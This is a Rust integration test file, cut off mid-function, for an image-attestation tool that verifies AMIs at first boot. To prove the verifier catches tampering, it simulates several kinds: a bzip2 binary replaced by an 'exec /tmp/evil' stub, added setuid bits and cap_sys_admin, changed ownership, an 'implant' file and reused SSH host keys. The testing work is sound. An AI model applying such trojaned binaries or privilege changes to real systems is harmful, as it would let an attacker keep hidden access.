//! `bakeproof verify` end to end: fixture root → scan → seal check → key →
//! attest → store (local directory, documented layout) → verify against the
//! IMDS emulator; then each failure with its message.

mod common;

use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use common::imds_emulator::{Emulator, dead_endpoint};
use common::moto::{Moto, test_aws_env};
use common::run::{bakeproof_bin, describe, extract};
use serde_json::{Value, json};

const AMI: &str = "ami-0123456789abcdef0";
const REGION: &str = "us-east-1";

fn bp(args: &[&OsStr]) -> Output {
    Command::new(bakeproof_bin())
        .args(args)
        .env("SOURCE_DATE_EPOCH", "1704067200")
        .env("COSIGN_PASSWORD", "test-password")
        .env_remove("BAKEPROOF_STORE")
        .env_remove("AWS_EC2_METADATA_SERVICE_ENDPOINT")
        .output()
        .expect("run bakeproof")
}

fn ok(o: &Output) {
    assert!(
        o.status.success(),
        "status {:?}\nstdout: {}\nstderr: {}",
        o.status,
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
}

/// `bakeproof publish --store STORE ATTEST_DIR`.
fn publish(attest_dir: &Path, store: &Path) {
    ok(&bp(&[
        "publish".as_ref(),
        "--store".as_ref(),
        p(store),
        p(attest_dir),
    ]));
}

struct Chain {
    _tmp: tempfile::TempDir,
    _root_dir: tempfile::TempDir,
    root: PathBuf,
    store: PathBuf,
    key_pub: PathBuf,
    other_pub: PathBuf,
}

fn p(s: &Path) -> &OsStr {
    s.as_os_str()
}

/// The bake side. `prepare` may change the root before the scan.
fn bake(prepare: impl FnOnce(&Path)) -> Chain {
    bake_sbom(prepare, None)
}

/// [`bake`], attesting the scan's `-o FORMAT` SBOM (`None`: the default).
fn bake_sbom(prepare: impl FnOnce(&Path), format: Option<&str>) -> Chain {
    let root_dir = extract("dpkgroot/clean.tar.gz");
    let root = root_dir.path().to_path_buf();
    prepare(&root);
    let tmp = tempfile::tempdir().unwrap();
    let t = tmp.path();
    let sbom = t.join("sbom.json");
    let output = match format {
        Some(f) => format!("{f}={}", sbom.display()).into(),
        None => sbom.clone().into_os_string(),
    };
    ok(&bp(&[
        "scan".as_ref(),
        p(&root),
        "-o".as_ref(),
        &output,
        "-q".as_ref(),
    ]));
    let seal = bp(&[
        "seal".as_ref(),
        "check".as_ref(),
        p(&root),
        "--format".as_ref(),
        "json".as_ref(),
    ]);
    std::fs::write(t.join("seal.json"), &seal.stdout).unwrap();
    ok(&bp(&[
        "key".as_ref(),
        "generate".as_ref(),
        "--output-dir".as_ref(),
        p(t),
    ]));
    let other = t.join("other");
    std::fs::create_dir(&other).unwrap();
    ok(&bp(&[
        "key".as_ref(),
        "generate".as_ref(),
        "--output-dir".as_ref(),
        p(&other),
    ]));
    let out = t.join("attest");
    ok(&bp(&[
        "attest".as_ref(),
        "--sbom".as_ref(),
        p(&sbom),
        "--seal".as_ref(),
        p(&t.join("seal.json")),
        "--key".as_ref(),
        p(&t.join("cosign.key")),
        "--ami".as_ref(),
        format!("{REGION}:{AMI}").as_ref(),
        "-o".as_ref(),
        p(&out),
        // Some tests bake unsealed images on purpose: first boot must catch them.
        "--allow-unsealed".as_ref(),
    ]));
    let store = t.join("store");
    publish(&out, &store);
    // First boot: a fresh machine-id.
    std::fs::write(
        root.join("etc/machine-id"),
        "0123456789abcdef0123456789abcdef\n",
    )
    .unwrap();
    Chain {
        root,
        store,
        key_pub: t.join("cosign.pub"),
        other_pub: other.join("cosign.pub"),
        _tmp: tmp,
        _root_dir: root_dir,
    }
}

fn verify(c: &Chain, endpoint: &str, key: &Path, extra: &[&str]) -> (i32, String, Value) {
    let mut args: Vec<&OsStr> = vec![
        "verify".as_ref(),
        "--store".as_ref(),
        p(&c.store),
        "--key".as_ref(),
        p(key),
        "--root".as_ref(),
        p(&c.root),
        "--imds-endpoint".as_ref(),
        endpoint.as_ref(),
    ];
    args.extend(extra.iter().map(OsStr::new));
    let text = bp(&args);
    args.extend([OsStr::new("--format"), OsStr::new("json")]);
    let j = bp(&args);
    let code = j.status.code().unwrap_or(-1);
    if let Ok(v) = serde_json::from_slice::<Value>(&j.stdout)
        && let Err(e) = common::schema::validate_with_schema("boot-result.schema.json", &v)
    {
        panic!("result does not match schemas/boot-result.schema.json: {e:?}\n{v:#}");
    }
    assert_eq!(text.status.code(), Some(code), "text and JSON runs agree");
    let v: Value = serde_json::from_slice(&j.stdout).unwrap_or_else(|e| {
        panic!(
            "JSON ({e}): {}\nstderr: {}",
            String::from_utf8_lossy(&j.stdout),
            String::from_utf8_lossy(&j.stderr)
        )
    });
    let text = String::from_utf8_lossy(&text.stdout).into_owned();
    // The text's last line says what the JSON says, in its words: the
    // result, the AMI (or that none was resolved) and the level, lower case.
    let ami = match &v["ami"] {
        Value::Null => "AMI unknown (not resolved)".to_string(),
        a => format!(
            "{}:{}",
            a["region"].as_str().unwrap(),
            a["amiId"].as_str().unwrap()
        ),
    };
    let want = format!(
        "{}: {ami} at level {} (",
        v["result"].as_str().unwrap().to_uppercase(),
        v["level"].as_str().unwrap()
    );
    assert!(
        text.lines().last().is_some_and(|l| l.starts_with(&want)),
        "last line of the text is not {want:?}...: {text}"
    );
    (code, text, v)
}

fn failed_detail(v: &Value, id: &str) -> String {
    v["checks"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["id"] == id && c["status"] == "fail")
        .map(|c| c["detail"].as_str().unwrap().to_string())
        .collect::<Vec<_>>()
        .join("; ")
}

#[test]
fn chain_passes_then_each_failure_is_clear() {
    let c = bake(|_| {});
    let emu = Emulator::start(&["--ami-id", AMI, "--region", REGION]);

    for level in ["attestation", "packages", "files"] {
        let (code, text, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", level]);
        assert_eq!(code, 0, "level {level}: {text}\n{v:#}");
        assert_eq!(v["result"], "verified");
        assert_eq!(v["ami"]["amiId"], AMI);
        assert!(text.contains("VERIFIED"), "{text}");
    }

    // Foreign AMI: IMDS says another AMI; the store has no index for it.
    let foreign = Emulator::start(&["--ami-id", "ami-0fedcba9876543210", "--region", REGION]);
    let (code, text, v) = verify(&c, &foreign.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 1, "{text}");
    assert!(
        failed_detail(&v, "store").contains("ami-0fedcba9876543210"),
        "{v:#}"
    );

    // Foreign AMI with an index copied from ours: not among the subjects.
    let src = c.store.join("amis").join(REGION).join(AMI);
    let dst = c
        .store
        .join("amis")
        .join(REGION)
        .join("ami-0fedcba9876543210");
    std::fs::create_dir_all(&dst).unwrap();
    let mut idx: Value =
        serde_json::from_slice(&std::fs::read(src.join("index.json")).unwrap()).unwrap();
    idx["ami"]["ami_id"] = json!("ami-0fedcba9876543210");
    std::fs::write(dst.join("index.json"), serde_json::to_vec(&idx).unwrap()).unwrap();
    let (code, _, v) = verify(&c, &foreign.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 1);
    assert!(
        failed_detail(&v, "subjects").contains("not among the subjects"),
        "{v:#}"
    );

    // Another key.
    let (code, _, v) = verify(&c, &emu.endpoint, &c.other_pub, &[]);
    assert_eq!(code, 1);
    assert!(
        failed_detail(&v, "signatures").contains("unknown key"),
        "{v:#}"
    );

    // IMDS down: bounded time, distinct exit code.
    let t = Instant::now();
    let (code, text, v) = verify(&c, &dead_endpoint(), &c.key_pub, &[]);
    assert!(t.elapsed() < Duration::from_secs(20), "{:?}", t.elapsed()); // two runs
    assert_eq!(code, 2, "{text}");
    assert_eq!(v["result"], "unreachable");
    assert!(
        failed_detail(&v, "reach").contains("could not reach IMDS"),
        "{v:#}"
    );

    // --ami given: no IMDS needed.
    let (code, text, _) = verify(
        &c,
        &dead_endpoint(),
        &c.key_pub,
        &["--ami", &format!("{REGION}:{AMI}")],
    );
    assert_eq!(code, 0, "{text}");

    // A modified package file in the live root (--level files).
    let f = c.root.join("etc/debian_version");
    let orig = std::fs::read(&f).unwrap();
    std::fs::write(&f, b"13.99\n").unwrap();
    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
    assert_eq!(code, 1);
    assert!(
        failed_detail(&v, "files").contains("1 file difference"),
        "{v:#}"
    );
    let d = &v["differences"]["files"][0];
    assert_eq!(d["path"], "/etc/debian_version");
    assert_eq!(d["change"], "modified");
    // ... not seen at the attestation level.
    let (code, _, _) = verify(&c, &emu.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 0);
    std::fs::write(&f, orig).unwrap();

    // A capability granted in the live root, content unchanged (--level
    // files): a privilege change the digest does not show. Set with the
    // real setcap(8).
    let bz = c.root.join("usr/bin/bzip2recover");
    let setcap = |args: &[&str]| {
        let st = Command::new("setcap")
            .args(args)
            .arg(&bz)
            .status()
            .expect("setcap (libcap2-bin)");
        assert!(st.success(), "setcap {args:?}");
    };
    setcap(&["cap_sys_admin=ep"]);
    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(
        v["differences"]["files"].as_array().unwrap().len(),
        1,
        "{v:#}"
    );
    let d = &v["differences"]["files"][0];
    assert_eq!(d["path"], "/usr/bin/bzip2recover", "{v:#}");
    assert_eq!(d["change"], "capabilities", "{v:#}");
    assert_eq!(d["attested"], Value::Null, "{v:#}");
    assert_eq!(d["live"], "cap_sys_admin=ep", "{v:#}");
    setcap(&["-r"]);
    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
    assert_eq!(code, 0, "capability removed again: {v:#}");

    // Same content, a setuid bit added, then another owner (--level files).
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&bz, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(
        v["differences"]["files"].as_array().unwrap().len(),
        1,
        "{v:#}"
    );
    let d = &v["differences"]["files"][0];
    assert_eq!(
        (&d["path"], &d["change"], &d["attested"], &d["live"]),
        (
            &json!("/usr/bin/bzip2recover"),
            &json!("mode"),
            &json!("0755"),
            &json!("4755")
        ),
        "{v:#}"
    );
    std::fs::set_permissions(&bz, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::chown(&bz, Some(4321), Some(4321)).unwrap();
    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
    assert_eq!(code, 1, "{v:#}");
    let d = &v["differences"]["files"][0];
    assert_eq!(
        (&d["change"], &d["attested"], &d["live"]),
        (&json!("owner"), &json!("0:0"), &json!("4321:4321")),
        "{v:#}"
    );
    std::os::unix::fs::chown(&bz, Some(0), Some(0)).unwrap();
    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "files"]);
    assert_eq!(code, 0, "restored: {v:#}");

    // A package changed in the live root's database (--level packages):
    // base-files' version bumped, as an unattested upgrade would.
    let st = c.root.join("var/lib/dpkg/status");
    let orig_st = std::fs::read_to_string(&st).unwrap();
    assert!(orig_st.contains("Version: 12.4+deb12u11\n"));
    std::fs::write(
        &st,
        orig_st.replacen("Version: 12.4+deb12u11\n", "Version: 12.4+deb12u99\n", 1),
    )
    .unwrap();
    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", "packages"]);
    assert_eq!(code, 1);
    assert!(
        failed_detail(&v, "packages").contains("1 package difference"),
        "{v:#}"
    );
    let d = &v["differences"]["packages"][0];
    assert_eq!(d["change"], "version", "{v:#}");
    assert_eq!(d["attested"], "12.4+deb12u11", "{v:#}");
    assert_eq!(d["live"], "12.4+deb12u99", "{v:#}");
    assert!(
        d["package"]
            .as_str()
            .unwrap()
            .starts_with("pkg:deb/debian/base-files?"),
        "{v:#}"
    );
    std::fs::write(&st, orig_st).unwrap();

    // An empty machine-id at boot.
    std::fs::write(c.root.join("etc/machine-id"), "").unwrap();
    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 1);
    assert!(
        failed_detail(&v, "machine-id").contains("machine-id"),
        "{v:#}"
    );
    std::fs::write(
        c.root.join("etc/machine-id"),
        "0123456789abcdef0123456789abcdef\n",
    )
    .unwrap();

    // A tampered blob in the store.
    let blobs = c.store.join("blobs/sha256");
    for e in std::fs::read_dir(&blobs).unwrap() {
        let e = e.unwrap().path();
        let mut b = std::fs::read(&e).unwrap();
        let i = b.len() / 2;
        b[i] ^= 0x20;
        std::fs::write(&e, b).unwrap();
    }
    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 1);
    assert!(
        failed_detail(&v, "store").contains("digest mismatch"),
        "{v:#}"
    );
}

#[test]
fn reused_baked_host_key_fails() {
    let c = bake(|root| {
        let ssh = root.join("etc/ssh");
        std::fs::create_dir_all(&ssh).unwrap();
        let st = Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-C", "baked", "-f"])
            .arg(ssh.join("ssh_host_ed25519_key"))
            .status()
            .expect("ssh-keygen");
        assert!(st.success());
    });
    let emu = Emulator::start(&["--ami-id", AMI, "--region", REGION]);
    let (code, text, v) = verify(&c, &emu.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 1, "{text}");
    let d = failed_detail(&v, "ssh-host-keys");
    assert!(
        d.contains("baked host key reused") && d.contains("SHA256:"),
        "{v:#}"
    );
    // The seal report itself was not sealed (a baked host key fails the seal).
    assert!(!failed_detail(&v, "seal").is_empty(), "{v:#}");
}

/// `ssh-keygen -q -t TYPE -N '' -f PATH`.
fn keygen(path: &Path, ktype: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let st = Command::new("ssh-keygen")
        .args(["-q", "-t", ktype, "-N", "", "-C", "k", "-f"])
        .arg(path)
        .status()
        .expect("ssh-keygen");
    assert!(st.success());
}

/// The fingerprint `ssh-keygen -l` prints for a key file (the oracle).
fn ssh_fingerprint(path: &Path) -> String {
    let o = Command::new("ssh-keygen")
        .arg("-lf")
        .arg(path)
        .output()
        .expect("ssh-keygen -l");
    assert!(o.status.success(), "{}", describe(&o));
    String::from_utf8_lossy(&o.stdout)
        .split_whitespace()
        .nth(1)
        .unwrap()
        .to_string()
}

/// RFC 3339 of now + `secs` (GNU date).
fn rfc3339_from_now(secs: i64) -> String {
    let o = Command::new("date")
        .args([
            "-u",
            "-d",
            &format!("{secs} seconds"),
            "+%Y-%m-%dT%H:%M:%SZ",
        ])
        .output()
        .expect("date");
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

/// An image baked with its host keys: the live keys are byte-identical to
/// the files the attested SBOM lists under /etc/ssh (the private key too,
/// which has no fingerprint in the seal report when its `.pub` is gone), and
/// the live fingerprints are in the JSON result as `ssh-keygen -l` sees them.
/// Fresh keys pass the host-key check.
#[test]
fn host_keys_in_the_attested_sbom_are_baked() {
    let c = bake(|root| keygen(&root.join("etc/ssh/ssh_host_ed25519_key"), "ed25519"));
    let emu = Emulator::start(&["--ami-id", AMI, "--region", REGION]);
    let ssh = c.root.join("etc/ssh");
    let fp = ssh_fingerprint(&ssh.join("ssh_host_ed25519_key.pub"));
    let (code, text, v) = verify(&c, &emu.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 1, "{text}\n{v:#}");
    let d = failed_detail(&v, "ssh-host-keys");
    assert!(
        d.contains("/etc/ssh/ssh_host_ed25519_key is byte-identical to the attested /etc/ssh/ssh_host_ed25519_key")
            && d.contains("/etc/ssh/ssh_host_ed25519_key.pub is byte-identical"),
        "{v:#}"
    );
    assert_eq!(
        v["hostKeys"],
        json!([{"path": "/etc/ssh/ssh_host_ed25519_key.pub", "type": "ssh-ed25519", "fingerprint": fp}]),
        "{v:#}"
    );
    // The baked private key alone: byte-identical still; its public half is
    // the one reported.
    std::fs::remove_file(ssh.join("ssh_host_ed25519_key.pub")).unwrap();
    let (code, _, v) = verify(&c, &emu.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 1, "{v:#}");
    assert!(
        failed_detail(&v, "ssh-host-keys").contains("ssh_host_ed25519_key is byte-identical"),
        "{v:#}"
    );
    assert_eq!(
        v["hostKeys"],
        json!([{"path": "/etc/ssh/ssh_host_ed25519_key", "type": "ssh-ed25519", "fingerprint": fp}]),
        "{v:#}"
    );
    // Fresh keys made at boot: the host-key check passes (the image is
    // still unsealed: the seal check fails), fingerprints reported.
    std::fs::remove_file(ssh.join("ssh_host_ed25519_key")).unwrap();
    keygen(&ssh.join("ssh_host_ed25519_key"), "ed25519");
    keygen(&ssh.join("ssh_host_rsa_key"), "rsa");
    let (_, text, v) = verify(&c, &emu.endpoint, &c.key_pub, &[]);
    assert_eq!(failed_detail(&v, "ssh-host-keys"), "", "{text}\n{v:#}");
    assert!(!failed_detail(&v, "seal").is_empty(), "{v:#}");
    let fps: Vec<&str> = v["hostKeys"]
        .as_array()
        .unwrap()
        .iter()
        .map(|k| k["fingerprint"].as_str().unwrap())
        .collect();
    assert_eq!(
        fps,
        [
            ssh_fingerprint(&ssh.join("ssh_host_ed25519_key.pub")),
            ssh_fingerprint(&ssh.join("ssh_host_rsa_key.pub"))
        ],
        "{v:#}"
    );
    assert_eq!(v["hostKeys"][1]["type"], "ssh-rsa", "{v:#}");
}

/// Host keys older than the instance's launch (IMDS pendingTime) were not
/// made for this instance: they fail, even though no attestation lists them.
#[test]
fn host_keys_older_than_the_launch_fail() {
    let c = bake(|_| {});
    keygen(&c.root.join("etc/ssh/ssh_host_ed25519_key"), "ed25519");
    let later = Emulator::start(&[
        "--ami-id",
        AMI,
        "--region",
        REGION,
        "--pending-time",
        &rfc3339_from_now(3600),
    ]);
    let (code, text, v) = verify(&c, &later.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 1, "{text}\n{v:#}");
    let d = failed_detail(&v, "ssh-host-keys");
    assert!(
        d.contains("older than this instance's launch")
            && d.contains("/etc/ssh/ssh_host_ed25519_key.pub"),
        "{v:#}"
    );
    // Launched before the keys were made: fresh.
    let earlier = Emulator::start(&[
        "--ami-id",
        AMI,
        "--region",
        REGION,
        "--pending-time",
        &rfc3339_from_now(-3600),
    ]);
    let (code, text, v) = verify(&c, &earlier.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 0, "{text}\n{v:#}");
    // A key made fresh but back-dated (mtime from an old copy): stale.
    let st = Command::new("touch")
        .args(["-d", "2001-01-01"])
        .arg(c.root.join("etc/ssh/ssh_host_ed25519_key"))
        .status()
        .unwrap();
    assert!(st.success());
    let (code, _, v) = verify(&c, &earlier.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 1, "{v:#}");
    assert!(
        failed_detail(&v, "ssh-host-keys").contains("(mtime 978307200"),
        "{v:#}"
    );
    // Against the image's seal time (the report's timestamp: 2024-01-01,
    // SOURCE_DATE_EPOCH) the back-dated key is stale too; off: not judged.
    let (code, _, v) = verify(
        &c,
        &earlier.endpoint,
        &c.key_pub,
        &["--host-key-age", "image"],
    );
    assert_eq!(code, 1, "{v:#}");
    assert!(
        failed_detail(&v, "ssh-host-keys").contains("older than the image's seal (1704067200)"),
        "{v:#}"
    );
    let (code, _, v) = verify(&c, &later.endpoint, &c.key_pub, &["--host-key-age", "off"]);
    assert_eq!(code, 0, "{v:#}");
    // A fresh key (made now) is newer than the seal: image passes where
    // launch (an hour from now) fails.
    keygen(&c.root.join("etc/ssh/ssh_host_rsa_key"), "rsa");
    std::fs::remove_file(c.root.join("etc/ssh/ssh_host_ed25519_key")).unwrap();
    std::fs::remove_file(c.root.join("etc/ssh/ssh_host_ed25519_key.pub")).unwrap();
    let (code, _, v) = verify(
        &c,
        &later.endpoint,
        &c.key_pub,
        &["--host-key-age", "image"],
    );
    assert_eq!(code, 0, "{v:#}");
    let (code, _, _) = verify(&c, &later.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 1);
    keygen(&c.root.join("etc/ssh/ssh_host_ed25519_key"), "ed25519");
    // No launch time served: the age is not checked, and the detail says so.
    let none = Emulator::start(&["--ami-id", AMI, "--region", REGION, "--no-pending-time"]);
    let (code, _, v) = verify(&c, &none.endpoint, &c.key_pub, &[]);
    assert_eq!(code, 0, "{v:#}");
    let detail = v["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == "ssh-host-keys")
        .unwrap()["detail"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(detail.contains("key age not checked"), "{detail}");
}

/// `--level packages` compares every package-owned file with its attested
/// digest: a replaced binary of a package fails there, without a walk of
/// the tree; an unowned file is the files level's.
/// The packages-only SBOM of a scan (`-o cyclonedx-json-packages`) names
/// the image's tree digest, so it can be attested and published; it lists
/// no file, so the first-boot check would compare nothing (a replaced
/// package binary would pass at `--level packages`): it is refused.
#[test]
fn a_published_packages_only_sbom_fails_closed() {
    let c = bake_sbom(|_| {}, Some("cyclonedx-json-packages"));
    let emu = Emulator::start(&["--ami-id", AMI, "--region", REGION]);
    std::fs::write(c.root.join("usr/bin/bzip2"), b"#!/bin/sh\nexec /tmp/evil\n").unwrap();
    for level in ["attestation", "packages", "files"] {
        let (code, text, v) = verify(&c, &emu.endpoint, &c.key_pub, &["--level", level]);
        assert_eq!(code, 1, "{level}: {text}\n{v:#}");
        assert!(
            failed_detail(&v, "signatures").contains("packages-only SBOM"),
            "{level}: {v:#}"
        );
    }
}

#[test]
fn packages_level_catches_a_replaced_package_binary() {
    use std::os::unix::fs::PermissionsExt;
    let c = bake(|_| {});
    let emu = Emulator::start(&["--ami-id", AMI, "--region", REGION]);
    let run = |level: &str| verify(&c, &emu.endpoint, &c.key_pub, &["--level", level]);
    let (code, text, v) = run("packages");
    assert_eq!(code, 0, "{text}\n{v:#}");
    let bin = c.root.join("usr/bin/bzip2");
    let orig = std::fs::read(&bin).unwrap();
    // Oracle: dpkg's own list says bzip2 owns /bin/bzip2 (usrmerged here).
    let list = std::fs::read_to_string(c.root.join("var/lib/dpkg/info/bzip2.list")).unwrap();
    assert!(list.lines().any(|l| l.ends_with("/bin/bzip2")), "{list}");

    // Written in place: bzip2, bunzip2 and bzcat are one inode (hard
    // links), so all three package-owned names changed.
    let evil = b"#!/bin/sh\nexec /tmp/evil \"$@\"\n";
    std::fs::write(&bin, evil).unwrap();
    let (code, _, v) = run("packages");
    assert_eq!(code, 1, "{v:#}");
    let changed: Vec<(&str, &str)> = v["differences"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| (d["path"].as_str().unwrap(), d["change"].as_str().unwrap()))
        .collect();
    assert_eq!(
        changed,
        [
            ("/usr/bin/bunzip2", "modified"),
            ("/usr/bin/bzcat", "modified"),
            ("/usr/bin/bzip2", "modified")
        ],
        "{v:#}"
    );
    std::fs::write(&bin, &orig).unwrap();
    let (code, _, v) = run("packages");
    assert_eq!(code, 0, "restored in place: {v:#}");
    // Replaced (a new file at the name): that name only.
    std::fs::remove_file(&bin).unwrap();
    std::fs::write(&bin, evil).unwrap();
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    let (code, text, v) = run("packages");
    assert_eq!(code, 1, "{text}\n{v:#}");
    assert!(
        failed_detail(&v, "packages").contains("1 package-owned file difference"),
        "{v:#}"
    );
    let d = &v["differences"]["files"][0];
    assert_eq!(d["path"], "/usr/bin/bzip2", "{v:#}");
    assert_eq!(d["change"], "modified", "{v:#}");
    assert!(
        d["package"]
            .as_str()
            .unwrap()
            .starts_with("pkg:deb/debian/bzip2@"),
        "{v:#}"
    );
    assert!(text.contains("/usr/bin/bzip2"), "{text}");

    // Replaced by a symlink to a copy of the original: not the attested entry.
    std::fs::write(c.root.join("tmp/bzip2"), &orig).unwrap();
    std::fs::remove_file(&bin).unwrap();
    std::os::unix::fs::symlink("/tmp/bzip2", &bin).unwrap();
    let (code, _, v) = run("packages");
    assert_eq!(code, 1, "{v:#}");
    let d = &v["differences"]["files"][0];
    assert_eq!(
        (&d["change"], &d["attested"], &d["live"]),
        (&json!("type"), &json!("file"), &json!("symlink")),
        "{v:#}"
    );
    std::fs::remove_file(&bin).unwrap();
    let (code, _, v) = run("packages");
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(v["differences"]["files"][0]["change"], "missing", "{v:#}");

    // Same bytes, a setuid bit: a privilege change.
    std::fs::write(&bin, &orig).unwrap();
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let (code, _, v) = run("packages");
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(v["differences"]["files"][0]["change"], "mode", "{v:#}");
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    let (code, _, v) = run("packages");
    assert_eq!(code, 0, "restored: {v:#}");

    // A file no package owns: the files level's, not the packages level's.
    std::fs::create_dir_all(c.root.join("usr/local/bin")).unwrap();
    std::fs::write(c.root.join("usr/local/bin/implant"), b"x").unwrap();
    let (code, _, v) = run("packages");
    assert_eq!(code, 0, "{v:#}");
    let (code, _, v) = run("files");
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(v["differences"]["files"][0]["change"], "added", "{v:#}");
}

/// `bakeproof diff REGION:AMI-A REGION:AMI-B --store --key`: both SBOMs come
/// from the store, each verified against the key before use.
#[test]
fn diff_two_amis_from_the_store() {
    let c = bake(|_| {});
    let t = tempfile::tempdir().unwrap();
    // A second image: the same root with one file changed, attested as
    // another AMI and published into the same store.
    std::fs::write(c.root.join("etc/debian_version"), "12.99\n").unwrap();
    let sbom = t.path().join("b.json");
    ok(&bp(&[
        "scan".as_ref(),
        p(&c.root),
        "-o".as_ref(),
        p(&sbom),
        "-q".as_ref(),
    ]));
    let seal = t.path().join("seal.json");
    let s = bp(&[
        "seal".as_ref(),
        "check".as_ref(),
        p(&c.root),
        "--format".as_ref(),
        "json".as_ref(),
    ]);
    std::fs::write(&seal, &s.stdout).unwrap();
    let key = c.key_pub.with_file_name("cosign.key");
    let out = t.path().join("attest");
    let ami_b = "ami-0bbbbbbbbbbbbbbbb";
    ok(&bp(&[
        "attest".as_ref(),
        "--sbom".as_ref(),
        p(&sbom),
        "--seal".as_ref(),
        p(&seal),
        "--key".as_ref(),
        p(&key),
        "--ami".as_ref(),
        format!("{REGION}:{ami_b}").as_ref(),
        "-o".as_ref(),
        p(&out),
        // Checked after the first boot of image A (machine-id set): unsealed.
        "--allow-unsealed".as_ref(),
    ]));
    publish(&out, &c.store);
    let a = format!("{REGION}:{AMI}");
    let b = format!("{REGION}:{ami_b}");
    let run = |key: &Path| {
        bp(&[
            "diff".as_ref(),
            a.as_ref(),
            b.as_ref(),
            "--store".as_ref(),
            p(&c.store),
            "--key".as_ref(),
            p(key),
            "--format".as_ref(),
            "json".as_ref(),
        ])
    };
    let o = run(&c.key_pub);
    ok(&o);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let text = v["files"].to_string();
    assert!(text.contains("/etc/debian_version"), "{text}");
    for k in ["added", "removed", "upgraded", "downgraded", "rebuilt"] {
        assert_eq!(v["summary"][k], 0, "{k}: {v}");
    }
    assert_eq!(v["summary"]["modified_files"], 1, "{v}");
    // Another key: nothing verifies, nothing is used.
    let o = run(&c.other_pub);
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("no SBOM attestation verifies"), "{err}");
}

// ------------------------------------------------------------ the S3 chain

/// `bakeproof ARGS` against the moto server at `endpoint`: test credentials,
/// no AWS config files, the store's region pinned.
fn bp_s3(args: &[&OsStr], endpoint: &str) -> Output {
    test_aws_env(
        Command::new(bakeproof_bin())
            .args(args)
            .args(["--endpoint-url", endpoint]),
    )
    .env("SOURCE_DATE_EPOCH", "1704067200")
    .env("COSIGN_PASSWORD", "test-password")
    .env_remove("AWS_EC2_METADATA_SERVICE_ENDPOINT")
    .output()
    .expect("run bakeproof")
}

/// `bakeproof attest` of the scan and seal report in `t` with `key`.
fn attest_to(t: &Path, key: &Path, binding: &[&str], out: &Path) {
    let (sbom, seal) = (t.join("sbom.json"), t.join("seal.json"));
    let mut args: Vec<&OsStr> = vec![
        "attest".as_ref(),
        "--sbom".as_ref(),
        p(&sbom),
        "--seal".as_ref(),
        p(&seal),
        "--key".as_ref(),
        p(key),
        "-o".as_ref(),
        p(out),
    ];
    args.extend(binding.iter().map(OsStr::new));
    ok(&bp(&args));
}

/// Runs every command at the same time (released together) and returns the
/// outputs in order.
fn at_once(cmds: Vec<Vec<std::ffi::OsString>>, endpoint: &str) -> Vec<Output> {
    let barrier = std::sync::Arc::new(std::sync::Barrier::new(cmds.len()));
    let hs: Vec<_> = cmds
        .into_iter()
        .map(|c| {
            let b = std::sync::Arc::clone(&barrier);
            let ep = endpoint.to_string();
            std::thread::spawn(move || {
                let a: Vec<&OsStr> = c.iter().map(|s| s.as_os_str()).collect();
                b.wait();
                bp_s3(&a, &ep)
            })
        })
        .collect();
    hs.into_iter().map(|h| h.join().unwrap()).collect()
}

/// The issue's end-to-end chain against a real S3-compatible server: fixture
/// root → scan → seal check → attest with a two-region Packer manifest →
/// publish to S3 → first-boot verify for each AMI (IMDS emulator) → pass;
/// then the S3-side failures: an AMI of an earlier run, a tampered blob, an
/// index naming a missing blob, two publishers at once, S3 down.
#[test]
fn s3_two_region_packer_build_verifies_in_each_region() {
    const AMI_E: &str = "ami-0aaaaaaaaaaaaaaaa";
    const AMI_W: &str = "ami-0bbbbbbbbbbbbbbbb";
    const AMI_OLD: &str = "ami-0cccccccccccccccc";
    let moto = Moto::start(&[]);
    let ep = moto.url();
    moto.py("s3.create_bucket(Bucket='attest')");
    let store = "s3://attest/golden";

    let root_dir = extract("dpkgroot/clean.tar.gz");
    let root = root_dir.path();
    let tmp = tempfile::tempdir().unwrap();
    let t = tmp.path();
    ok(&bp(&[
        "scan".as_ref(),
        p(root),
